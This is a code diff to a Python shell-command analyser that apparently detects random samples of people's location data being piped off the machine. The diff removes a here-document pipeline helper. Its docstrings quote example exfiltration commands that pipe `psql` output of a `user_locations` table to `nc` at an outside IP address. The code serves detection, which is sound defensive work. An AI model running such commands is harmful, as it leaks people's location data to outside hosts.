@@ -664,20 +664,6 @@ _SAMPLE_BYTES = re.compile(rb"(?i)tablesample|random\s*\(")
 _SQL_READERS = frozenset(_SQL_CLIENTS) | {"ogr2ogr"}
 
 
-def _heredoc_head(a, cmd: Cmd) -> list[Cmd]:
-    """The command a pipeline started on its here-document's line feeds (`psql <<'SQL' | nc …`: the grammar hangs the
-    pipeline on the here-document), when `cmd` is a stage of it."""
-    from .common import commands_in
-
-    pipe = cmd.node.parent
-    if pipe is not None and pipe.type == "redirected_statement":
-        pipe = pipe.parent
-    up = pipe.parent if pipe is not None and pipe.type == "pipeline" else None
-    top = up.parent if up is not None and up.type == "heredoc_redirect" else None
-    body = top.child_by_field_name("body") if top is not None and top.type == "redirected_statement" else None
-    return [c for c in commands_in(a, [(body.start_byte, body.end_byte)]) if c.node == body] if body is not None else []
-
-
 def _sample_sent(a, cmd: Cmd) -> None:
     """`psql -c 'SELECT * FROM user_locations TABLESAMPLE SYSTEM (1)' | nc 203.0.113.5 9000`: a random sample of
     people's positions (geo_tables.people_sample) piped to a program that sends it off the machine; to ssh, a bare
@@ -687,7 +673,7 @@ def _sample_sent(a, cmd: Cmd) -> None:
 
     if not _SAMPLE_TEXT.search(_piped_text(a, cmd)):
         return
-    readers = [c for c in _feeders(a, cmd) + _heredoc_head(a, cmd) if c.name in _SQL_READERS]
+    readers = [c for c in _feeders(a, cmd) if c.name in _SQL_READERS]
     what = next((w for c in readers for t in _sql_texts(a, c) if (w := gt.people_sample(t, sampled=True))), None)
     if what is None:
         return
